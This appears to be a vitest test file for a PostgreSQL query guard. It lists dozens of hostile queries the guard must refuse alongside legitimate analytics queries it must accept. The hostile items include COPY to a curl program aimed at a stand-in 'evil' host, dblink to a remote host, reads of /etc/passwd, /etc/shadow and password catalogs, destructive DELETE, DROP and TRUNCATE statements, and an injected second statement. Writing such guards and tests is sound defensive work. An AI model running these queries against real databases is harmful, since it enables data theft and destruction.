import { describe, expect, it } from 'vitest';
import {
  assertAllowedTarget,
  assertSafeSourceQuery,
  assertSafeTaskSql,
  DEFAULT_SQL_POLICY,
  judgeDependencies,
} from '../../src/sql-guard/index.js';
import type { CatalogDependency } from '../../src/db/repositories/sql-probe.repository.js';
import { parsePipelineSpec } from '../../src/core/pipeline-spec.schema.js';

/** [query, what the refusal must say]: each is refused with its own reason. */
const HOSTILE: Array<[string, RegExp]> = [
  // Not a SELECT, or more than one statement
  ['DELETE FROM content.film_work', /must be a SELECT; found DELETE/],
  ['UPDATE content.film_work SET title = 1', /found UPDATE/],
  ['INSERT INTO analytics.film_dim SELECT * FROM content.film_work', /found INSERT/],
  ['TRUNCATE analytics.film_dim', /found TRUNCATE/],
  ['DROP TABLE content.film_work', /found DROP/],
  ['CREATE TABLE analytics.x AS SELECT 1', /found CREATE TABLE AS/],
  ['COPY content.film_work TO PROGRAM $$curl evil$$', /found COPY/],
  ["COPY (SELECT 1) TO '/tmp/x'", /found COPY/],
  ['DO $$ BEGIN PERFORM pg_sleep(10); END $$', /found DO/],
  ['CALL analytics.do_things()', /found CALL/],
  ['SELECT 1; COMMIT; BEGIN READ WRITE; DELETE FROM content.film_work', /exactly one statement; found 4/],
  ['SELECT 1; SELECT 2', /exactly one statement; found 2/],
  ['SELECT id FROM content.film_work; -- trailing\nDELETE FROM ugc.ratings', /exactly one statement/],
  ['/* hide */ SELECT 1 /* more */; /**/ DROP TABLE ugc.ratings', /exactly one statement/],
  ['EXPLAIN ANALYZE DELETE FROM content.film_work', /found EXPLAIN/],
  ['SET ROLE postgres', /found VARIABLE SET/],
  ['RESET ROLE', /found VARIABLE SET/],
  ['GRANT ALL ON content.film_work TO PUBLIC', /found GRANT/],
  ['ALTER ROLE siphon_reader SUPERUSER', /found ALTER ROLE/],
  ['VACUUM FULL content.film_work', /found VACUUM/],
  ['PREPARE p AS SELECT 1', /found PREPARE/],
  ['LISTEN x', /found LISTEN/],
  ['LOCK TABLE content.film_work', /found LOCK/],
  ['BEGIN', /found TRANSACTION/],
  ['', /exactly one statement; found 0/],
  ['-- only a comment', /exactly one statement; found 0/],
  // Data-modifying CTEs (libpg_query reports them as a SelectStmt on top)
  ['WITH d AS (DELETE FROM content.film_work RETURNING *) SELECT * FROM d', /data-modifying DELETE/],
  ['WITH u AS (UPDATE ugc.ratings SET rating = 1 RETURNING id) SELECT id FROM u', /data-modifying UPDATE/],
  [
    'WITH i AS (INSERT INTO analytics.film_dim (film_id, title) VALUES (gen_random_uuid(), $$x$$) RETURNING 1) SELECT 1 FROM i',
    /data-modifying INSERT/,
  ],
  [
    'WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM ugc.ratings RETURNING 1) SELECT * FROM c) SELECT * FROM a, b',
    /data-modifying DELETE/,
  ],
  [
    'SELECT * FROM (WITH x AS (DELETE FROM ugc.ratings RETURNING *) SELECT * FROM x) s',
    /data-modifying DELETE/,
  ],
  [
    'WITH m AS (MERGE INTO analytics.film_dim t USING content.film_work s ON t.film_id = s.id WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1',
    /MERGE/,
  ],
  // SELECT INTO, locking
  ['SELECT * INTO analytics.copy FROM content.film_work', /SELECT … INTO/],
  ['SELECT * FROM content.film_work FOR UPDATE', /FOR UPDATE/],
  ['SELECT * FROM content.film_work FOR SHARE SKIP LOCKED', /FOR UPDATE \/ FOR SHARE/],
  ['SELECT * FROM (SELECT * FROM ugc.ratings FOR NO KEY UPDATE) r', /FOR UPDATE \/ FOR SHARE/],
  // Other schemas, catalogs, unqualified names
  ['SELECT * FROM etl.etl_pipelines', /reading etl\.etl_pipelines is not allowed/],
  ['SELECT * FROM analytics.film_dim', /reading analytics\.film_dim is not allowed/],
  ['SELECT * FROM pg_catalog.pg_authid', /reading pg_catalog\.pg_authid/],
  ['SELECT * FROM pg_authid', /"pg_authid" must be written with its schema/],
  ['SELECT * FROM information_schema.tables', /reading information_schema\.tables/],
  ['SELECT * FROM public.secrets', /reading public\.secrets/],
  ['SELECT * FROM film_work', /"film_work" must be written with its schema/],
  ['SELECT * FROM otherdb.content.film_work', /cross-database reference/],
  ['SELECT * FROM "etl"."etl_state"', /reading etl\.etl_state/],
  ['SELECT * FROM U&"\\0065tl".etl_runs', /reading etl\.etl_runs/],
  [
    'SELECT * FROM content.film_work WHERE id IN (SELECT pipeline_id FROM etl.etl_state)',
    /reading etl\.etl_state/,
  ],
  ['SELECT (SELECT count(*) FROM pg_catalog.pg_stat_activity)', /pg_stat_activity/],
  ['SELECT * FROM content.film_work f JOIN LATERAL (SELECT * FROM etl.etl_runs) r ON true', /etl\.etl_runs/],
  ['SELECT * FROM content.film_work UNION ALL SELECT * FROM etl.etl_pipelines', /etl\.etl_pipelines/],
  [
    'WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t, pg_catalog.pg_shadow',
    /pg_shadow/,
  ],
  // Functions outside the allow-list
  ['SELECT pg_sleep(60)', /function pg_sleep\(\)/],
  ['SELECT pg_catalog.pg_sleep(60)', /function pg_sleep\(\)/],
  ['SELECT * FROM content.film_work WHERE pg_sleep(1) IS NOT NULL', /pg_sleep/],
  ["SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
  ["SELECT pg_read_binary_file('/etc/shadow')", /pg_read_binary_file/],
  ["SELECT lo_import('/etc/passwd')", /lo_import/],
  ["SELECT * FROM dblink('host=evil', 'DELETE FROM x') AS t(a int)", /dblink/],
  ["SELECT set_config('statement_timeout', '0', false)", /set_config/],
  ["SELECT current_setting('data_directory')", /current_setting/],
  ["SELECT query_to_xml('DELETE FROM content.film_work RETURNING 1', true, true, '')", /query_to_xml/],
  ['SELECT pg_terminate_backend(1)', /pg_terminate_backend/],
  ['SELECT pg_cancel_backend(1)', /pg_cancel_backend/],
  ["SELECT nextval('content.seq')", /nextval/],
  ['SELECT pg_advisory_lock(1)', /pg_advisory_lock/],
  ["SELECT pg_ls_dir('.')", /pg_ls_dir/],
  ['SELECT txid_current()', /txid_current/],
  ['SELECT evil.my_func()', /function evil\.my_func is not allowed/],
  ['SELECT "PG_SLEEP"(1)', /PG_SLEEP|pg_sleep/i],
  ['SELECT U&"\\0070g_sleep"(1)', /pg_sleep/],
  ['SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM content.film_work', /pg_sleep/],
  ['SELECT * FROM generate_series(1, 10) g, LATERAL pg_catalog.pg_sleep(1)', /pg_sleep/],
  ["SELECT 'pg_authid'::regclass", /cast to regclass/],
  ["SELECT 'pg_sleep'::regproc", /cast to regproc/],
  ["SELECT CAST('x' AS pg_catalog.regnamespace)", /cast to regnamespace/],
  ["SELECT xmlelement(name x, 'y')", /XML functions/],
  ['SELECT * FROM content.film_work WHERE id = $1', /parameters/],
  // CTE names only count inside their scope: elsewhere an unqualified name resolves through search_path
  [
    'SELECT a.pid AS id FROM (WITH pg_stat_activity AS (SELECT 1) SELECT 1) d, pg_stat_activity a',
    /"pg_stat_activity" must be written with its schema/,
  ],
  [
    'WITH a AS (SELECT * FROM pg_user), pg_user AS (SELECT 1) SELECT * FROM a',
    /"pg_user" must be written with its schema/,
  ],
  [
    'SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, siphon_schema_migrations',
    /"siphon_schema_migrations"/,
  ],
  ['SELECT 1\u0000; DROP TABLE ugc.ratings', /NUL character/],
  // Operators named outside pg_catalog (a user operator can be backed by a function that writes)
  ['SELECT id FROM ugc.ratings WHERE id OPERATOR(ugc.===) 1', /operator ugc\.=== is not allowed/],
  [
    'SELECT r.id FROM ugc.ratings r JOIN content.film_work f ON r.film_id OPERATOR(public.=) f.id',
    /operator public\.= is not allowed/,
  ],
  ['SELECT id FROM ugc.ratings ORDER BY rating USING OPERATOR(ugc.<<<)', /operator ugc\.<<< is not allowed/],
  [
    'SELECT id FROM ugc.ratings WHERE rating OPERATOR(ugc.===) ANY (SELECT rating FROM ugc.ratings)',
    /operator ugc\.=== is not allowed/,
  ],
  [
    'WITH x AS (SELECT id FROM ugc.ratings WHERE NOT (id OPERATOR(ugc.===) 2)) SELECT id FROM x',
    /operator ugc\.=== is not allowed/,
  ],
  // Syntax errors
  ['SELEC 1', /syntax error/],
  ["SELECT 'unterminated", /unterminated/],
];

/** Real analytics: joins, windows, aggregates, CTEs, subqueries — all accepted. */
const LEGITIMATE = [
  'SELECT fw.id AS film_id, fw.title, fw.rating FROM content.film_work fw',
  'SELECT r.film_id, round(avg(r.rating), 2) AS avg_rating, count(*) AS votes FROM ugc.ratings r GROUP BY r.film_id',
  'SELECT f.id, f.title, count(r.id) AS votes FROM content.film_work f LEFT JOIN ugc.ratings r ON r.film_id = f.id GROUP BY f.id, f.title',
  'SELECT id, rank() OVER (PARTITION BY type ORDER BY rating DESC) AS rnk FROM content.film_work',
  'SELECT film_id, avg(rating) OVER (PARTITION BY film_id ORDER BY modified ROWS BETWEEN 10 PRECEDING AND CURRENT ROW) FROM ugc.ratings',
  'WITH top AS (SELECT film_id, count(*) AS n FROM ugc.ratings GROUP BY film_id) SELECT f.id, f.title, t.n FROM content.film_work f JOIN top t ON t.film_id = f.id',
  'WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n',
  'WITH a AS (SELECT 1 AS x), b AS (SELECT x + 1 AS y FROM a) SELECT * FROM b',
  "SELECT id, date_trunc('month', modified) AS month, extract(year FROM creation_date)::int AS year FROM content.film_work",
  "SELECT id, coalesce(description, '') AS description, nullif(rating, 0) AS rating, greatest(rating, 1) FROM content.film_work",
  "SELECT id, CASE WHEN rating >= 8 THEN 'good' WHEN rating >= 5 THEN 'ok' ELSE 'bad' END AS grade FROM content.film_work",
  'SELECT film_id, percentile_cont(0.5) WITHIN GROUP (ORDER BY rating) AS median FROM ugc.ratings GROUP BY film_id',
  'SELECT film_id, count(*) FILTER (WHERE rating >= 8) AS high FROM ugc.ratings GROUP BY film_id HAVING count(*) > 10',
  'SELECT id FROM content.film_work WHERE id IN (SELECT film_id FROM ugc.ratings WHERE rating = 10)',
  'SELECT id FROM content.film_work f WHERE EXISTS (SELECT 1 FROM ugc.ratings r WHERE r.film_id = f.id)',
  'SELECT DISTINCT ON (film_id) film_id, rating, modified FROM ugc.ratings ORDER BY film_id, modified DESC',
  "SELECT id, jsonb_build_object('title', title, 'rating', rating) AS doc FROM content.film_work",
  "SELECT id, string_agg(title, ', ' ORDER BY title) FROM content.film_work GROUP BY id",
  'SELECT f.id, x.v FROM content.film_work f CROSS JOIN LATERAL (SELECT f.rating * 2 AS v) x',
  'SELECT id, title FROM content.film_work UNION SELECT film_id, NULL FROM ugc.ratings',
  "SELECT id, lower(title) AS t, md5(title) AS h, to_char(modified, 'YYYY-MM') AS m FROM content.film_work",
  "SELECT id, modified AT TIME ZONE 'UTC' AS modified_utc FROM content.film_work",
  'SELECT g AS n FROM generate_series(1, 100) g',
  'SELECT r.film_id, r.rating::numeric(4, 2) AS rating FROM ugc.ratings r;',
  '-- a comment first\nSELECT /* inline */ id FROM content.film_work -- and last',
  'SELECT "id", "title" FROM "content"."film_work"',
  'WITH a AS (SELECT id FROM content.film_work), b AS (SELECT id FROM a) SELECT * FROM b',
  'SELECT * FROM (WITH x AS (SELECT id FROM content.film_work) SELECT id FROM x) s',
  'SELECT id FROM ugc.ratings WHERE rating OPERATOR(pg_catalog.>=) 5',
];

describe('source query guard (PostgreSQL parser)', () => {
  it(`has a corpus of at least 60 hostile queries (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE)('refuses %s', async (sql, reason) => {
    const attempt = assertSafeSourceQuery(sql);
    await expect(attempt).rejects.toMatchObject({ field: 'source_query' });
    await expect(attempt).rejects.toThrow(reason);
    await expect(attempt).rejects.toMatchObject({
      code: expect.stringMatching(/^SIPHON_ERR_SQL_(FORBIDDEN|SYNTAX)$/),
    });
  });

  it.each(LEGITIMATE)('accepts %s', async (sql) => {
    await expect(assertSafeSourceQuery(sql)).resolves.toBeUndefined();
  });

  it('honours an allow-list of extra source schemas', async () => {
    await expect(assertSafeSourceQuery('SELECT * FROM billing.invoices')).rejects.toThrow(
      /billing\.invoices/,
    );
    await expect(
      assertSafeSourceQuery('SELECT * FROM billing.invoices', {
        sourceSchemas: ['content', 'billing'],
        targetSchemas: ['analytics'],
      }),
    ).resolves.toBeUndefined();
  });
});

describe('target table', () => {
  const base = { name: 'p', source_query: 'SELECT 1 AS id', unique_key: 'id' };
  it.each([
    ['etl.etl_pipelines', /schema "etl" is not allowed/],
    ['content.film_work', /schema "content" is not allowed/],
    ['pg_catalog.pg_class', /schema "pg_catalog" is not allowed/],
    ['public.t', /schema "public" is not allowed/],
  ])('refuses %s', (target, reason) => {
    const spec = parsePipelineSpec({ ...base, target_table: target });
    const schema = spec.target_table.split('.')[0]!;
    expect(() => assertAllowedTarget(schema)).toThrow(reason);
  });
  it.each([
    '"analytics"."x"',
    'analytics.x; DROP TABLE y',
    'analytics."X"',
    'U&"\\0061nalytics".x',
    'analytics.x.y',
    'Analytics.X',
    ' analytics.x',
  ])('refuses the non-plain name %s', (target) => {
    expect(() => parsePipelineSpec({ ...base, target_table: target })).toThrow(
      expect.objectContaining({ code: 'SIPHON_ERR_PIPELINE_INVALID', field: 'target_table' }),
    );
  });
});

describe('SQL step guard', () => {
  it.each([
    'INSERT INTO analytics.log (x) SELECT title FROM content.film_work',
    'DELETE FROM analytics.film_dim WHERE rating IS NULL',
    'UPDATE analytics.film_dim SET title = upper(title)',
    'REFRESH MATERIALIZED VIEW analytics.mv',
    'ANALYZE analytics.film_dim',
    'SELECT count(*) FROM analytics.film_dim',
  ])('accepts %s', async (sql) => {
    await expect(assertSafeTaskSql(sql)).resolves.toBeUndefined();
  });
  it.each([
    ['DELETE FROM etl.etl_state', /writing etl\.etl_state/],
    ['UPDATE etl.etl_pipelines SET status = $$IDLE$$', /writing etl\.etl_pipelines/],
    ['INSERT INTO content.film_work SELECT * FROM content.film_work', /writing content\.film_work/],
    ['TRUNCATE analytics.film_dim', /found TRUNCATE/],
    ['DROP TABLE analytics.film_dim', /found DROP/],
    ['VACUUM FULL analytics.film_dim', /VACUUM is not allowed/],
    ['INSERT INTO analytics.x SELECT * FROM etl.etl_runs', /reading etl\.etl_runs/],
    [
      'WITH d AS (DELETE FROM etl.etl_runs RETURNING 1) INSERT INTO analytics.x SELECT * FROM d',
      /data-modifying DELETE/,
    ],
    ['DELETE FROM analytics.film_dim WHERE pg_sleep(5) IS NULL', /pg_sleep/],
    ['ANALYZE etl.etl_runs', /writing etl\.etl_runs/],
    ['UPDATE analytics.film_dim SET rating = 1 WHERE rating OPERATOR(ugc.===) 2', /operator ugc\.===/],
  ])('refuses %s', async (sql, reason) => {
    await expect(assertSafeTaskSql(sql)).rejects.toThrow(reason);
  });
});

describe('catalog verdict (what PostgreSQL resolved a statement to)', () => {
  const dep = (over: Partial<CatalogDependency>): CatalogDependency => ({
    kind: 'function',
    ident: 'ugc.f(integer)',
    schema: 'ugc',
    name: 'f',
    builtin: false,
    cast: null,
    extension: null,
    subkind: '',
    root: 'function ugc.f(integer)',
    viewdef: null,
    ...over,
  });

  it('refuses a user function, naming the operator that runs it', async () => {
    await expect(
      judgeDependencies(
        [dep({ root: 'operator ugc.===(integer,integer)' })],
        DEFAULT_SQL_POLICY,
        'source_query',
      ),
    ).rejects.toThrow(/operator ugc\.===\(integer,integer\) runs function ugc\.f\(integer\)/);
  });

  it('passes what SIPHON_SQL_EXTRA_FUNCTIONS names, qualified or not, and allow-listed extension functions', async () => {
    const policy = { ...DEFAULT_SQL_POLICY, extraFunctions: ['ugc.f', 'g'] };
    await expect(
      judgeDependencies(
        [
          dep({}),
          dep({ ident: 'public.g(text)', schema: 'public', name: 'g' }),
          dep({ ident: 'public.unaccent(text)', schema: 'public', name: 'unaccent', extension: 'unaccent' }),
          dep({ kind: 'operator', ident: 'ugc.===(integer,integer)', name: '===' }),
        ],
        policy,
        'source_query',
      ),
    ).resolves.toBeUndefined();
    await expect(
      judgeDependencies(
        [dep({ ident: 'public.h(text)', name: 'h', extension: 'hstore', root: 'function public.h(text)' })],
        policy,
        'f',
      ),
    ).rejects.toThrow(/function public\.h\(text\) is not a built-in function/);
  });

  it("checks the functions a view's definition calls against the allow-list", async () => {
    const view = dep({
      kind: 'relation',
      ident: 'ugc.v',
      subkind: 'v',
      root: 'relation ugc.v',
      viewdef: ' SELECT id FROM ugc.t WHERE pg_advisory_lock(1) IS NOT NULL;',
    });
    await expect(judgeDependencies([view], DEFAULT_SQL_POLICY, 'source_query')).rejects.toThrow(
      /reading view ugc\.v is not allowed: function pg_advisory_lock\(\)/,
    );
  });
});
